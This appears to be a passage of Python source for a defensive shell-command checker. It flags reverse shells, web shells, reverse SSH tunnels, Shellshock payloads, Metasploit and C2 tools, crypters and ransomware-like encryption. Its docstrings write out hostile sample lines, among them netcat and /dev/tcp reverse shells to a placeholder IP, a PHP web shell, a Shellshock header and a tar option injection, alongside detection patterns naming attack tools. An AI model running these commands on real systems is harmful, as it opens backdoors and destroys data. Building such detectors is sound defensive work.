        # rlwrap gives a listener line editing: it waits for a shell to type into (a reverse shell's catcher)
        return _verdict(
            REMOTE_ACCESS, invocation, "waits, with line editing, for a shell to connect back (rlwrap nc -l)"
        )
    for index, value in enumerate(values):
        following = values[index + 1] if index + 1 < len(values) else ""
        if value in ("--exec", "--sh-exec", "--lua-exec") or value.startswith(("--exec=", "--sh-exec=")):
            served = value.partition("=")[2] if "=" in value else following
            if value == "--lua-exec" or not _fixed_reply(served):
                return _verdict(BACKDOOR, invocation, "serves a program over the network")
        if value.startswith("-") and not value.startswith("--") and set(value[1:]) & {"e", "c"}:
            cluster = value[1:]
            at = min(cluster.index(letter) for letter in "ec" if letter in cluster)
            served = cluster[at + 1 :] or following
            if not _fixed_reply(served):
                return _verdict(BACKDOOR, invocation, "serves a shell over the network")
    if any(v == "--proxy-type" or v.startswith("--proxy-type=") for v in values):
        listens = any(
            v == "--listen" or (v.startswith("-") and not v.startswith("--") and "l" in v) for v in values
        )
        if listens:
            return _verdict(REMOTE_ACCESS, invocation, "serves a proxy into the network it reaches")
    return None


def _code_tunnel(invocation: Invocation, home: str) -> Verdict | None:
    """``code tunnel``: VS Code's remote tunnel, a shell on this machine for whoever signs in to it."""
    values = _values(invocation)
    if values[:1] == ["tunnel"] and not {"--help", "-h", "status", "kill", "prune", "unregister"} & set(
        values
    ):
        return _verdict(BACKDOOR, invocation, "opens a remote-access tunnel into this machine (code tunnel)")
    return None


def _socket(invocation: Invocation, home: str) -> Verdict | None:
    """``socket -p PROGRAM HOST PORT`` (``-svp``: listening): a program's input and output on the network."""
    for value in _values(invocation):
        if value.startswith("-") and not value.startswith("--") and "p" in value:
            return _verdict(BACKDOOR, invocation, "serves a program over the network (socket -p)")
    return None


def _socat(invocation: Invocation, home: str) -> Verdict | None:
    values = [v.lower() for v in _values(invocation)]
    runs = any(v.startswith(("exec:", "system:")) or ",exec:" in v for v in values)
    network = any(re.match(r"^(?:tcp|udp|ssl|openssl|sctp|socks)", v) for v in values)
    if runs and network:
        return _verdict(BACKDOOR, invocation, "connects a shell to the network")
    listeners = [v for v in values if re.match(r"^(?:tcp|udp|ssl|openssl|sctp)[46]?-l(?:isten)?:", v)]
    targets = [m.group(1) for m in map(_SOCAT_CONNECT.match, values) if m]
    remote = [t for t in targets if not _SOCAT_LOCAL.match(t)]
    if listeners and remote:
        why = f"relays a port here to {remote[0]} (a pivot into the network it reaches)"
        return _verdict(REMOTE_ACCESS, invocation, why)
    if remote and len(targets) > len(remote):
        why = f"relays {remote[0]} to a port of this machine (a reverse tunnel: {remote[0]} reaches it)"
        return _verdict(REMOTE_ACCESS, invocation, why)
    if len(listeners) > 1:
        return _verdict(
            REMOTE_ACCESS, invocation, "joins two listening ports (a relay between whoever connects)"
        )
    if listeners and any("echo=0" in v.lower() for v in invocation.args):
        return _verdict(
            REMOTE_ACCESS, invocation, "gives whoever connects this terminal (a remote shell's other end)"
        )
    # A port opened to the network (not bound to loopback) and tied to something of this machine: a local
    # service relayed (TCP:127.0.0.1:3306, UNIX-CONNECT:, SOCKS4A:), a file written or served (OPEN:x,creat:
    # a file received from whoever connects), the terminal: the network reaches in, where no one looks.
    published = [v for v in listeners if not _SOCAT_LOOPBACK_BIND.search(v)]
    other = [v for v in _values(invocation) if v.lower() not in listeners and not v.startswith("-")]
    if published and other:
        if _SOCAT_FILES.match(other[0]):
            why = f"{other[0]}: a file written or served for whoever connects (a drop point on the network)"
        elif _SOCAT_TERMINAL.match(other[0]):
            why = "waits for whoever connects, its traffic in the terminal (a listener on the network)"
        else:
            why = f"relays whoever connects to {other[0]} (this machine's service published on the network)"
        return _verdict(REMOTE_ACCESS, invocation, why)
    return None


_SOCAT_LOOPBACK_BIND = lazy_compile(r",(?:bind=(?:localhost|127\.[\d.]+|\[?::1\]?)|range=127\.)")
"""A listening address bound to, or letting in, only this machine (``TCP-LISTEN:8080,bind=127.0.0.1``)."""
_SOCAT_FILES = lazy_compile(r"^(?:file|open|create|gopen):", re.IGNORECASE)
_SOCAT_TERMINAL = lazy_compile(r"^(?:stdio|stdout|stdin|stderr|readline|pty)(?:,|$)", re.IGNORECASE)
_SOCAT_CONNECT = lazy_compile(r"^(?:tcp|udp|ssl|openssl|sctp)[46]?(?:-connect)?:(\[[^\]]*\]|[^:,]+)")
"""socat's connecting address and its host: ``TCP:10.10.10.20:5432``, ``TCP4-CONNECT:db:5432``."""
_SOCAT_LOCAL = lazy_compile(r"^(?:localhost|127(?:\.\d+){0,3}|\[::1\]|0\.0\.0\.0)$", re.IGNORECASE)


_TUNNELLED_PORTS = frozenset({"22", "23", "2222", "3389", "5900", "5901", "2375", "2376"})
"""Ports that give a remote host a shell or a desktop here: sshd, telnet, RDP, VNC, the docker daemon."""


def _ssh(invocation: Invocation, home: str) -> Verdict | None:
    """``ssh -R PORT:localhost:22 HOST``: a reverse tunnel that lets the remote host log in here."""
    values = _values(invocation)
    specs: list[str] = []
    destination = False
    for index, value in enumerate(values):
        following = values[index + 1] if index + 1 < len(values) else ""
        if not value.startswith("-") and not (index and _takes_value(values[index - 1])):
            if destination:
                break  # ssh host [options] CMD ARGS: the remote command (ssh host chmod -R 755 x)
            destination = True
            continue
        if value.startswith("-") and not value.startswith("--") and "R" in value:
            at = value.index("R")
            if any(c in _SSH_VALUE_FLAGS - {"R"} for c in value[1:at]):
                continue  # -oR..., -lR: the R is part of another option's value
            specs.append(value[at + 1 :] or following)
        elif value == "-o" and following.lower().startswith("remoteforward"):
            specs.append(re.split(r"[=\s]+", following, maxsplit=1)[-1].replace(" ", ":"))
    for spec in specs:
        parts = re.sub(r"\[[^\]]*\]", "host", spec).split(":")
        if len(parts) <= 2 and parts[-1].isdigit():
            why = f"-R {spec} opens a SOCKS proxy into this machine's network for the remote host"
            return _verdict(BACKDOOR, invocation, why)
        if len(parts) >= 3 and parts[-1] in _TUNNELLED_PORTS:
            why = f"-R {spec} lets the remote host reach port {parts[-1]} here (a reverse tunnel to a shell)"
            return _verdict(BACKDOOR, invocation, why)
    return None


_SSH_VALUE_FLAGS = frozenset("BbcDEeFIiJLlmOopQRSWw")


def _takes_value(option: str) -> bool:
    """Whether an ssh option word ends with a flag that takes the next word (``-fNR``, ``-o``)."""
    return option.startswith("-") and not option.startswith("--") and option[-1] in _SSH_VALUE_FLAGS


_LOCAL_DISPLAY = lazy_compile(r"^(?:unix|localhost|127\.[\d.]+|::1|)?:\d+(?:\.\d+)?$")


def _remote_display(invocation: Invocation, home: str) -> Verdict | None:
    """``xterm -display HOST:1``: a terminal, with its shell, shown on (and typed into from) another host."""
    values = _values(invocation)
    displays = [values[i + 1] for i, v in enumerate(values[:-1]) if v in ("-display", "--display", "-d")]
    displays += [e.partition("=")[2] for e in invocation.env if e.startswith("DISPLAY=")]
    for display in displays:
        if re.search(r":\d+(?:\.\d+)?$", display) and not _LOCAL_DISPLAY.match(display):
            return _verdict(BACKDOOR, invocation, f"shows a shell on the remote display {display}")
    return None


def _payload_builder(invocation: Invocation, home: str) -> Verdict | None:
    """msfvenom -p linux/x64/shell_reverse_tcp: builds a reverse or bind shell, or any other payload
    (``windows/adduser``, ``linux/x64/exec``): code made to run on a machine it breaks into."""
    values = _values(invocation)
    if {"-l", "--list", "--list-options", "-h", "--help"} & set(values):
        return None
    if re.search(r"reverse|bind_|meterpreter|shell_|/exec\b", " ".join(values).lower()):
        return _verdict(BACKDOOR, invocation, "builds a reverse or bind shell payload")
    if any(v in ("-p", "--payload") or (v.startswith(("--payload=", "-p")) and len(v) > 2) for v in values):
        return _verdict(BACKDOOR, invocation, "builds a Metasploit payload")
    return None


_ATTACK_CONSOLES = frozenset({"msfconsole", "msfd", "msfrpcd", "msfdb", "routersploit", "rsf", "rsf.py",
                              "setoolkit", "commix", "beef-xss"})  # fmt: skip
"""Exploitation frameworks: each run throws exploits, scanners or phishing kits at hosts (``msfdb`` sets up
and serves Metasploit's database and web service API)."""
_REMOTE_CONTROLS = frozenset({"weevely", "sliver", "sliver-server", "sliver-client", "pupysh",
                              "powershell-empire", "empire", "villain", "havoc", "shellpop", "hoaxshell",
                              "penelope", "revshellgen", "pwncat-cs", "shellerator"})  # fmt: skip
"""Command-and-control tools: web shells made and driven, implants' servers and clients, reverse shells
generated and caught (shellpop, hoaxshell, revshellgen; penelope's and pwncat-cs' handlers)."""
_CRYPTERS = frozenset({"veil", "veil-evasion", "shellter", "shellter.exe", "hyperion", "hyperion.exe"})
"""Tools that wrap a payload so antivirus misses it (Veil, Shellter, Hyperion, run natively or under wine):
their only input is a backdoor, their output one that slips past the machine's defences."""
_ASKING_FOR_HELP = frozenset({"-h", "--help", "-help", "--version", "-v", "-V", "version", "help"})


def _framework_script(invocation: Invocation) -> str | None:
    """The attacking tool run by its script's name (``./weevely.py URL PW``, ``python3 weevely.py ...``,
    ``python rsf.py``) or its release's (``./sliver-client_linux-amd64``): a clone of the tool's
    repository or its download run in place, not the packaged command."""
    name = invocation.name.lower()
    if _INTERPRETERS.match(name):
        values = _values(invocation)
        script = values[0] if values and not values[0].startswith("-") else ""
        name = posixpath.basename(script).lower()
    stem = _PLATFORM_SUFFIX.sub("", name.removesuffix(".py"))
    return stem if stem != name and stem in _ATTACK_CONSOLES | _REMOTE_CONTROLS else None


_PLATFORM_SUFFIX = lazy_compile(r"[_.-](?:linux|darwin|macos|osx|windows|freebsd)(?:[_.-][\w.-]*)?$")
"""The platform a release is built for, as its binary's name ends (``sliver-server_linux``,
``sliver-client_linux-amd64``): the same tool run from its download."""


def _crypter(invocation: Invocation, home: str) -> Verdict | None:
    """``wine hyperion.exe backdoor.exe crypted.exe``, ``shellter -a -f putty.exe -p …``, ``veil -t Evasion``:
    a payload wrapped to get past antivirus; asked for help or a version, nothing is made."""
    values = _values(invocation)
    if len(values) == 1 and values[0] in _ASKING_FOR_HELP:
        return None
    return _verdict(BACKDOOR, invocation, f"{invocation.name} wraps a payload so that antivirus misses it")


def _attack_framework(invocation: Invocation, home: str) -> Verdict | None:
    """``msfconsole -x 'use exploit/...; run'``, ``weevely generate PW shell.php``: attacking tools run."""
    values = _values(invocation)
    script = _framework_script(invocation)
    if script is not None and _INTERPRETERS.match(invocation.name):
        values = values[1:]
    if values and set(values) <= _ASKING_FOR_HELP:
        return None
    name = script or invocation.name
    if name in _REMOTE_CONTROLS:
        return _verdict(
            BACKDOOR, invocation, f"{name} makes or drives a remote shell (a web shell or an implant)"
        )
    if "handler" in " ".join(values).lower():
        return _verdict(BACKDOOR, invocation, f"{name} waits for reverse shells (a payload handler)")
    return _verdict(REMOTE_CODE, invocation, f"{name} runs exploits against hosts")


_SHELLSHOCK = lazy_compile(r"\(\)\s*\{[^}]*\}\s*;")
"""Bash's exported-function prefix with a command after it, ``() { :; }; CMD``: Shellshock's payload."""


def _downloader(invocation: Invocation, home: str) -> Verdict | None:
    """A transfer program: a file written where it must not be, or a Shellshock payload sent."""
    return _writes_files(invocation, home) or _shellshock(invocation, home)


def _shellshock(invocation: Invocation, home: str) -> Verdict | None:
    """``curl -A '() { :; }; /bin/id' URL``: code for a remote bash (CVE-2014-6271) sent in a header."""
    for value in _values(invocation):
        header = value.partition(":")[2] if ":" in value[:40] else ""
        if _SHELLSHOCK.match(value.lstrip("\"' ")) or _SHELLSHOCK.match(header.lstrip("\"' ")):
            return _verdict(REMOTE_CODE, invocation, "sends a Shellshock payload (code for a remote bash)")
    return None


def _ztcp(invocation: Invocation, home: str) -> Verdict | None:
    """zsh's ztcp: a raw TCP connection from the shell, what a zsh reverse shell is made of."""
    values = _values(invocation)
    if "-l" in values or "-a" in values:
        return _verdict(BACKDOOR, invocation, "listens for a TCP connection in the shell (ztcp -l)")
    hosts = [v for v in values if not v.startswith("-") and not v.isdigit()]
    if hosts and not re.match(r"^(?:localhost|127\.|::1$)", hosts[0]):
        return _verdict(BACKDOOR, invocation, f"opens a TCP connection to {hosts[0]} from the shell")
    return None


def _shred(invocation: Invocation, home: str) -> Verdict | None:
    """shred of every file in a protected root (``find ~ -type f | xargs shred -u``), or of a device."""
    _, targets = _split_flags(_values(invocation))
    for target in targets:
        what = _critical(target, home, invocation.cwd)
        if what and "working directory" not in what:
            return _verdict(FILESYSTEM, invocation, f"overwrites and deletes {what}")
    return _disk_tool(invocation, home)


def _encrypts(invocation: Invocation, home: str) -> Verdict | None:
    """gpg -c over every file in the home directory (find ~ -exec gpg -c {}): ransomware's pattern."""
    values = _values(invocation)
    if not any(v in ("-c", "--symmetric", "-e", "--encrypt") or re.fullmatch(r"-[a-z]*[ce][a-z]*", v)
               for v in values):  # fmt: skip
        return None
    for value in values:
        what = _critical(value, home, invocation.cwd)
        if what and "working directory" not in what:
            return _verdict(DATA_DESTRUCTION, invocation, f"encrypts {what}")
    return None


def _setfacl(invocation: Invocation, home: str) -> Verdict | None:
    """setfacl -m o::rwx /etc, setfacl -m u:x:rw /etc/shadow: an ACL that opens a system path."""
    values = _values(invocation)
    flags, positionals = _split_flags(values)
    specs = [values[i + 1] for i, v in enumerate(values[:-1]) if v in ("-m", "-M", "--modify", "--set")]
    specs += [v.partition("=")[2] for v in values if v.startswith(("--modify=", "--set="))]
    if not specs:
        return None
    grants_write = any(re.search(r":[r-]?w", spec) for spec in specs)
    given = set(specs)
    recursive = bool(flags & {"R", "--recursive"})
    for target in positionals:
        if target in given:
            continue
        what = _critical(target, home, invocation.cwd)
        if what and (recursive or grants_write) and "working directory" not in what:
            return _verdict(PERMISSIONS, invocation, f"an ACL opens {what} to other users")
        system_file = _system_file(target, home, invocation.cwd)
        if system_file:
            return _verdict(PERMISSIONS, invocation, f"an ACL exposes {system_file} to another user")
    return None


_EVERYONE = lazy_compile(
    r"^(?:\*?S-1-1-0|Everyone|Users|\*?S-1-5-32-545|Authenticated Users|\*?S-1-5-11|BUILTIN\\Users)"
    r":(?:\([A-Z,]+\))*(?:\(?(?:F|M|W|RW|GA|GW)\)?|$)",
    re.IGNORECASE,
)


def _icacls(invocation: Invocation, home: str) -> Verdict | None:
    """icacls C:\\ /grant Everyone:F /T: every user may now change the system."""
    values = [word for value in _values(invocation) for word in value.split()]  # C:\ /grant: one word
    grants = [values[i + 1] for i, v in enumerate(values[:-1]) if v.lower().startswith("/grant")]
    if not any(_EVERYONE.match(g) for g in grants):
        return None
    target = values[0] if values else ""
    windows_system = re.match(
        r"^(?:\\\\\?\\)?[A-Za-z]:\\?(?:$|Windows|Program Files|ProgramData|Users\\?$)", target, re.I
    )
    if windows_system or "/t" in (v.lower() for v in values):
        return _verdict(PERMISSIONS, invocation, f"gives every user write access to {target}")
    return None


def _interpreter(invocation: Invocation, home: str) -> Verdict | None:
    """Code given inline, in a here-string or a here-document: judged like a shell command."""
    codes = [code for code in (inline_code(invocation), *fed_code(invocation)) if code]
    for code in codes:
        verdict = _judge_code(code, invocation, home, how=f"run from {invocation.name}")
        if verdict is not None:
            return verdict
    for code in codes:
        for path in written_paths(code):
            place = written(path, home=home, cwd=invocation.cwd)
            if place is not None:
                return _verdict(place[0], invocation, f"writes {place[1]}, run from {invocation.name}")
    return None


_INSTALLED_PROGRAMS = ("/bin/", "/sbin/", "/usr/", "/opt/homebrew/", "/System/", "/Applications/",
                       "/Library/Apple/")  # fmt: skip
"""Where the system's and the package managers' programs live: a program run from anywhere else is
the project's, a download's or a payload's."""


def _fed_to_unseen_program(invocation: Invocation, home: str) -> Verdict | None:
    """Shell code fed to a program run by its path from outside the system's directories.

    ``/tmp/x/exploit <<< 'chown 0:0 /usr/local/roots; chmod 4777 /usr/local/roots'``: a local
    exploit (or any payload) reads commands on its standard input and runs them as root. What the
    program does with its input cannot be seen; what it is fed can: judged as the shell command it
    is, and held as that would be. Text that is no dangerous command (answers, data) is fed freely.
    """
    command = invocation.command
    at = len(command.words) - len(invocation.args) - 1
    head = command.static(command.words[at]) if 0 <= at < len(command.words) else None
    if not head or "/" not in head or not any(r.op in ("<<", "<<<") for r in command.redirects):
        return None
    path = normalize_path(head, home=home, cwd=invocation.cwd)
    if path.startswith(_INSTALLED_PROGRAMS):
        return None
    for code in fed_code(invocation):
        found = check_command(code, home=home)
        if found is not None:
            why = (
                f"{found.why}, fed to {head} on its standard input"
                " (a program from outside the system's directories may run it)"
            )
            return Verdict(found.category, _piece(invocation.text), why)
    return None


def _perl(invocation: Invocation, home: str) -> Verdict | None:
    return _writes_files(invocation, home) or _interpreter(invocation, home)


def _judge_code(code: str, invocation: Invocation, home: str, *, how: str, piece: str = "") -> Verdict | None:
    from .tactics.impact import data_tree

    danger = judge_code(
        code,
        awk=invocation.name in AWKS,
        is_critical=lambda path: _critical(path, home, invocation.cwd),
        judge_shell=lambda command: check_command(command, home=home),
        is_data=lambda path: data_tree(path, home, invocation.cwd),
    )
    if danger is None:
        if invocation.name.lower() not in powershell.POWERSHELLS:
            return None
        verdict = _powershell_code(code, piece or invocation.text, current_policy())
        return verdict.replace(why=f"{verdict.why}, {how}") if verdict is not None else None
    return Verdict(danger.category, piece or _piece(invocation.text), f"{danger.why}, {how}")


_SHELL_CALLS = lazy_compile(
    r"\b(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|os\.system|subprocess\.\w+)\s*\(\s*"
    r"(?:\[\s*)?(['\"])((?:\\.|(?!\1)[^\\\n]){1,2000})\1",
    re.IGNORECASE,
)
"""A call that hands a string to the system's shell (PHP's ``system('…')``, Python's ``os.system("…")``)."""
_WEB_SHELL_CODE = lazy_compile(
    r"\b(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|eval|assert)\s*\(\s*"
    r"(?:base64_decode\s*\(\s*)?\$_(?:GET|POST|REQUEST|COOKIE|SERVER|FILES)\b|`\s*\$_(?:GET|POST|REQUEST)\b",
    re.IGNORECASE,
)
"""Server code that runs what a request sends (``<?php system($_GET['cmd']); ?>``): a web shell."""
_CODE_HANDLER = lazy_compile(
    r"\bAdd(?:Type|Handler)\s+(?:application/x-httpd-php\S*|php\d?-script)((?:[ \t]+\.?\w+)+)", re.IGNORECASE
)
"""An Apache directive that has files run as PHP (``AddType application/x-httpd-php .jpg``, often in an
``.htaccess`` uploaded beside an image): for any other extension than PHP's own, the upload runs as code."""
_PHP_EXTENSIONS = frozenset({"php", "php3", "php4", "php5", "php7", "php8", "phtml", "phar", "phps", "inc"})
_ENCODERS = frozenset(
    {"base64", "base32", "basenc", "xxd", "od", "hexdump", "gzip", "bzip2", "xz", "zstd", "rev"}
)
"""Programs that encode what is piped in: a remote shell encoded is a payload made to pass a filter."""
_PHP_SOCKET = lazy_compile(r"\b(?:fsockopen|pfsockopen|stream_socket_client)\s*\(", re.IGNORECASE)
_SHELL_RUN = lazy_compile(r"\s*(?:\S*/)?(?:(?:ba|da|z|k|mk|c|tc)?sh|cmd(?:\.exe)?)(?![.\w-])", re.IGNORECASE)
"""A command string that starts a shell (``/bin/sh -i <&3 >&3 2>&3``, ``bash``, ``cmd.exe``)."""
_PYTHON_TEXT = lazy_compile(r"^\s*(?:import|from)\s+[\w.]+|\bsocket\.socket\s*\(")
_MAX_WRITTEN = 20_000
"""The longest written text read for a reverse shell (a longer one is judged where it is run)."""
_WHOLE_TEXT = 1_000
"""A written text up to this size (and :data:`_MAX_HINTED_LINES` lines) is judged whole as shell code; a
longer one by its hinted lines."""
_MAX_HINTED_LINES = 16
_LINES_AFTER_HINT = 2
"""How many unhinted lines after a hinted one are judged with it (``exec 3<>/dev/tcp/…`` then ``sh <&3``)."""
_MAX_JUDGED_LINES = 2 * _MAX_HINTED_LINES
"""How many lines of a long written text are judged at the most (hinted lines and the lines after them)."""
_REMOTE_SHELL_HINT = lazy_compile(
    r"/dev/(?:tcp|udp)/|\b(?:nc|ncat|netcat|socat|telnet|ztcp|mkfifo|s_client)\b|socket|TCPSocket|fsockopen"
    r"|-display\b",
    re.IGNORECASE,
)
"""What every remote shell is made of (a socket, a network tool, a named pipe, a remote display): a written
text without any of them is not read further, so writing a file costs one scan of its text."""
_reading_written: contextvars.ContextVar[bool] = contextvars.ContextVar(
    "agentbus_reading_written", default=False
)


def _shell_pieces(text: str) -> list[str]:
    """The shell code a written text is judged by. A short text whole (a payload spread over lines:
    ``exec 5<>/dev/tcp/…`` on one, ``cat <&5 | sh`` on the next); a longer one by its hinted lines, each
    with the unhinted lines just after it (where a socket or a pipe opened on one line is used), up to
    :data:`_MAX_JUDGED_LINES` lines in all: a text of eighty ``nc -z`` checks costs a few lines'
    judgement, not its whole length's. ``\\n`` is read as a line break too, as dash's echo writes it."""
    lines = text.replace("\\n", "\n").splitlines()
    if len(text) <= _WHOLE_TEXT and len(lines) <= _MAX_HINTED_LINES:
        joined = "\n".join(lines)  # the same text but for a final newline: judged once
        return [text] if joined == text.rstrip("\n") else [text, joined]
    pieces: list[str] = []
    budget = _MAX_JUDGED_LINES
    for index, line in enumerate(lines):
        if budget <= 0 or len(pieces) == _MAX_HINTED_LINES:
            break
        if len(line) > _WHOLE_TEXT or not _REMOTE_SHELL_HINT.search(line):
            continue
        after = itertools.takewhile(
            lambda later: len(later) <= _WHOLE_TEXT and not _REMOTE_SHELL_HINT.search(later),
            lines[index + 1 : index + 1 + min(_LINES_AFTER_HINT, budget - 1)],
        )
        piece = [line, *after]
        pieces.append("\n".join(piece))
        budget -= len(piece)
    return pieces


def _written_backdoor(invocation: Invocation, home: str, fed: str | None = None) -> Verdict | None:
    """``echo "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc IP 4444 >/tmp/f" >> backups.sh``, ``echo
    "<?php system('nc -e /bin/sh IP 4444'); ?>" > shell.php``, ``cat > r.py <<EOF`` with a Python reverse
    shell: a reverse or bind shell written into a file, wherever it is (the file's next reader runs it: a
    root job, a web server, a later call). Writing code is otherwise judged where it runs; a remote shell
    has no place in a project's files, so the write itself is held back. ``fed``: what is piped into tee
    (``echo CMD | sudo tee -a FILE``), written to its files as a here-document is. An option injection
    written as data (``echo '--checkpoint-action=exec=sh x' > list.txt``) is held back the same way."""
    if invocation.name == "tee":
        values = _values(invocation)
        targets = [v for v in values if not v.startswith("-")]
        text = "\n".join(fed_code(invocation)) or fed or None
    elif invocation.name == "sed":  # sed -i "/^ExecStart=/c\\ExecStart=/bin/bash -c 'bash -i >& …'" UNIT
        targets, text = _sed_written(invocation)
    elif invocation.name in _ENCODERS:  # echo 'bash -i >& /dev/tcp/IP/4444 0>&1' | base64: a payload made
        targets, text = [f"{invocation.name}'s encoded output"], fed
    else:
        command = invocation.command
        targets = [command.static(r.target) or "" for r in command.redirects if r.op in WRITE_OPERATORS]
        text = written_text(invocation) if any(targets) else None
    if not text or len(text) > _MAX_WRITTEN or _reading_written.get():
        return None
    target = next((t for t in targets if t), "a file")
    injected = injected_option(text)
    if injected is not None:
        why = f"writes {injected} into {target}: a program handed it as arguments (tar, rsync) runs a command"
        return _verdict(PRIVILEGE, invocation, why)
    if _WEB_SHELL_CODE.search(text):
        return _verdict(BACKDOOR, invocation, f"writes a web shell into {target} (runs what a request sends)")
    for handler in _CODE_HANDLER.finditer(text):
        others = {word.lstrip(".").lower() for word in handler.group(1).split()} - _PHP_EXTENSIONS
        if others:
            ext = sorted(others)[0]
            why = f"writes into {target} that .{ext} files run as PHP (an upload made a web shell)"
            return _verdict(BACKDOOR, invocation, why)
    if not _REMOTE_SHELL_HINT.search(text):
        return None
    if _php_reverse_shell(text):
        return _verdict(BACKDOOR, invocation, f"writes a PHP reverse shell into {target} (a socket, a shell)")
    # Python's socket code is judged as the interpreter's (not as shell lines)
    pieces = [f"python3 -c {shlex.quote(text)}"] if _PYTHON_TEXT.search(text) else _shell_pieces(text)
    calls = (re.sub(r"\\(.)", r"\1", m.group(2)) for m in _SHELL_CALLS.finditer(text))
    pieces += [code for code in calls if _REMOTE_SHELL_HINT.search(code)][:_MAX_HINTED_LINES]
    token = _reading_written.set(True)
    try:
        for code in pieces:
            found = check_command(code, home=home)
            if found is not None and found.category == BACKDOOR:
                why = f"writes a remote shell into {target} ({found.why})"
                return _verdict(BACKDOOR, invocation, why)
    finally:
        _reading_written.reset(token)
    return None


def _php_reverse_shell(text: str) -> bool:
    """``$sock=fsockopen("IP",4444);exec("/bin/sh -i <&3 >&3 2>&3");``: PHP that opens a socket and runs a
    shell (``exec``, ``shell_exec``, ``system``, ``proc_open``, ``popen`` ...). The shell's command names no
    host (its descriptors are the socket's), so it is judged with the socket, not as a shell line."""
    return bool(_PHP_SOCKET.search(text)) and any(
        _SHELL_RUN.match(call.group(2)) for call in _SHELL_CALLS.finditer(text)
    )


def _printed(invocation: Invocation, home: str) -> Verdict | None:
    """What ``echo``, ``printf`` or ``cat`` writes: a remote shell, wherever it lands."""
    return _fed_to_unseen_program(invocation, home) or _written_backdoor(invocation, home)


_CHECKS: dict[str, _Check] = {
    "echo": _printed,
    "printf": _printed,
    "cat": _printed,
    **{name: _downloader for name in _DOWNLOADERS},  # what a transfer program writes (rsync: below)
    "rm": _rm,
    "unlink": _rm,
    "find": _find,
    "script": _pty_shell,
    "mv": _mv,
    "cp": _copy_target,
    "install": _copy_target,
    "ln": _copy_target,
    "rsync": _copy_target,
    "ditto": _copy_target,
    "tee": _writes_files,
    "sponge": _writes_files,
    "truncate": _writes_files,
    "sed": _writes_files,
    "perl": _perl,
    "sort": _writes_files,
    "dd": _dd,
    "chmod": _chmod,
    "chown": _chown,
    "chgrp": _chown,
    "git": _git,
    "docker": _docker,
    "podman": _docker,
    "socat": _socat,
    "socket": _socket,
    "code": _code_tunnel,
    "code-insiders": _code_tunnel,
    **{name: _disk_tool for name in ("fdisk", "sfdisk", "cfdisk", "gdisk", "sgdisk", "parted", "wipefs",
                                     "blkdiscard", "mke2fs", "mkswap", "mkdosfs", "mkntfs")},
    "shred": _shred,
    "ssh": _ssh,
    "autossh": _ssh,
    "plink": _ssh,
    "msfvenom": _payload_builder,
    **{name: _attack_framework for name in _ATTACK_CONSOLES | _REMOTE_CONTROLS},
    **{name: _crypter for name in _CRYPTERS},
    **{name: _shellshock for name in ("curlie",)},
    "ztcp": _ztcp,
    "setfacl": _setfacl,
    "gpg": _encrypts,
    "gpg2": _encrypts,
    "icacls": _icacls,
    **{name: _remote_display for name in _TERMINALS},
    **{name: _netcat for name in NETCATS},
}  # fmt: skip


# -- code that reaches a shell -------------------------------------------------------------


def _as_root(invocation: Invocation) -> bool:
    user = runs_as(invocation)
    return user is not None and is_root_user(user)


_SECURITY_INTERACTIVE = frozenset({"-i", "-p", "-iq", "-qi", "-iv", "-vi"})
"""``security -i``, ``-p PROMPT``: security(1) reads its own subcommands from its input, one a line."""


_BARE_SHELL = lazy_compile(r"^\s*(?:exec\s+)?(?:/usr)?(?:/bin/)?(?:ba|da|z|k|a)?sh(?:\s+-s)?\s*$")
"""``bash``, ``exec sh -s``: a shell given no code, which reads its standard input as code."""


def _runs_stdin(invocation: Invocation) -> bool:
    """Whether the program runs, as code, what arrives on its standard input."""
    name = invocation.name
    if name in SHELLS:
        mode = shell_mode(invocation)
        # curl URL | xargs -0 bash -c: xargs hands what arrives to bash -c as its code.
        # curl URL | sh -c bash: the inner shell inherits the pipe and runs it (GuardDog's install hook).
        return (
            mode.reads_stdin
            or ("xargs" in invocation.wrappers and mode.script == "")
            or (mode.script is not None and _BARE_SHELL.match(mode.script) is not None)
        )
    if name in ("eval", "source", ".") and any(_reads_stdin_only(s) for s in _substitutions(invocation)):
        return True  # curl URL | eval "$(cat)"
    if name in ("source", "."):
        # curl URL | source /dev/stdin: the shell itself runs what arrives.
        values = _values(invocation)
        return not values or values[0] in ("/dev/stdin", "-", "/proc/self/fd/0", "/dev/fd/0")
    if name == "security":
        return bool(
            _SECURITY_INTERACTIVE & set(_values(invocation)[:2])
        )  # echo 'dump-keychain -d' | security -i
    if name in AWKS or not _INTERPRETERS.match(name):
        return False
    values = _values(invocation)
    takes_value = _VALUE_FLAGS | _PROGRAM_VALUE_FLAGS.get(name, frozenset())
    skip = False
    for value in values:
        if skip:
            skip = False
            continue
        if value == "-":
            return True
        if value in takes_value:
            skip = True
            continue
        if value.startswith("-"):
            if value in _CODE_FLAGS or re.fullmatch(r"-[a-zA-Z]*[cem]", value):
                return False
            continue
        return False  # a script file
    return True


def _substitutions(invocation: Invocation) -> list[Script]:
    command = invocation.command
    return [sub.script for word in command.words for sub in command.substitutions_in(word)]


def _reads_stdin_only(script: Script) -> bool:
    """``$(cat)``, ``$(cat -)``, ``$(cat /dev/stdin)``: the substitution is what arrives on stdin."""
    stages = [s for p in script.pipelines for s in p]
    if len(stages) != 1 or not stages[0].words or stages[0].words[0] != "cat":
        return False
    return all(w in ("-", "/dev/stdin") for w in stages[0].words[1:])


_URL_ARGUMENT = lazy_compile(r"^(?:https?|ftps?|tftp)://", re.IGNORECASE)
_PRINTERS = frozenset({"echo", "printf", "print"})


def _local_urls(invocation: Invocation) -> bool:
    """``curl -sS "file://$(pwd)/install/install.sh"``: every URL a downloader is given is a file of this
    machine, read as ``cat`` reads it (a script piped on is judged as ``cat FILE | sh`` is). URLs from a
    config or list file (``-K``, ``-i``) are not seen: then it is a download."""
    words = [invocation.command.render(word).strip("'\"") for word in invocation.args]
    urls = [word for word in words if "://" in word]
    more = any(word.startswith(("-K", "--config", "-i", "--input-file", "--url")) for word in words)
    return bool(urls) and not more and all(url.lower().startswith("file://") for url in urls)


def _fetches_url(invocation: Invocation) -> bool:
    """``$bbdir -fsSL http://host/x.sh``, ``cdl -s URL``: a downloader renamed or named by a variable
    (malware copies curl to ``cur``, ``cdl``, ``wdl``); any program given a URL but a printer."""
    return invocation.name not in _PRINTERS and any(
        _URL_ARGUMENT.match(value) for value in map(invocation.command.static, invocation.args) if value
    )


def _fed_download(invocation: Invocation) -> Invocation | None:
    """``cat <(curl URL)``: a download the program reads through a process substitution."""
